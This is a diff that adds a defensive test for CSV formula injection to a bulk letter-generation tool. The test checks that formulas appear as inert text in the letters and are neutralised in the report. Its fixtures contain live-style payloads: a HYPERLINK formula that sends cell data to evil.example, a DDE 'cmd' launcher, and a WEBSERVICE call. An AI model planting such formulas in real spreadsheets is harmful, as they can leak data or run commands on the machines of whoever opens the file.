@@ -417,3 +417,62 @@ def test_hostile_text_through_the_command(runner: CliRunner, tmp_path: Path) -> 
         shown = " ".join(clean_text(text).split())
         assert shown in docx_seen
         assert shown in html_seen
+
+
+# --------------------------------------------------------------------------------------------
+# Spreadsheets with formulas
+
+FORMULAS = {
+    "child_1_name": '=HYPERLINK("http://evil.example/?d="&B2,"Sam Doe")',
+    "communication_breakdown_summary": "=1+1",
+    "sender_name": "+SUM(A1:A9)",
+    "recipient_name": "-2+3",
+    "worker_name": "@SUM(1)",
+}
+
+
+def _read_csv(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_spreadsheet_formulas_are_text_in_letters_and_inert_in_the_report(
+        runner: CliRunner, tmp_path: Path) -> None:
+    import csv
+
+    assert runner.invoke(main, ["bulk-template", str(tmp_path / "cases.csv")]).exit_code == 0
+    cases_csv, evidence_csv = tmp_path / "cases.csv", tmp_path / "cases-evidence.csv"
+    header, notes, example = _read_csv(cases_csv)
+    good = dict(zip(header, example, strict=True)) | FORMULAS | {
+        "case_id": "=cmd|' /C calc'!A0", "child_not_engaging_child": FORMULAS["child_1_name"]}
+    bad = dict(good, case_id="=2+2", sender_address="")  # the address is required
+    with cases_csv.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerows([header, notes, [good[h] for h in header], [bad[h] for h in header]])
+    evidence = _read_csv(evidence_csv)
+    rows = [evidence[0], evidence[1]]
+    for row in evidence[2:]:
+        rows.append(row)
+        rows.append([good["case_id"] if row[0] == "EXAMPLE-1" else row[0], *row[1:]])
+        rows.append([bad["case_id"] if row[0] == "EXAMPLE-1" else row[0], *row[1:]])
+    rows = [r for r in rows if r[0] != "EXAMPLE-1"]
+    rows[2][4] = "=WEBSERVICE(\"http://evil.example\")"  # an evidence description
+    with evidence_csv.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows(rows)
+
+    report = tmp_path / "report.csv"
+    result = runner.invoke(main, ["bulk", str(cases_csv), "--evidence", str(evidence_csv),
+                                  "--out", str(tmp_path / "out"), "--format", "md",
+                                  "--report", str(report)])
+    assert result.exit_code == 1, result.output  # the bad row failed; the good one is written
+    assert "Traceback" not in result.output
+    (letter,) = (tmp_path / "out").glob("*.md")
+    shown, tags = html_text(MarkdownIt("commonmark").render(letter.read_text("utf-8")))
+    assert tags <= LETTER_TAGS  # no link was made
+    for text in [*FORMULAS.values(), '=WEBSERVICE("http://evil.example")']:
+        assert text in shown
+    cells = [cell for row in _read_csv(report) for cell in row]
+    assert len(cells) == 3 * 6
+    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
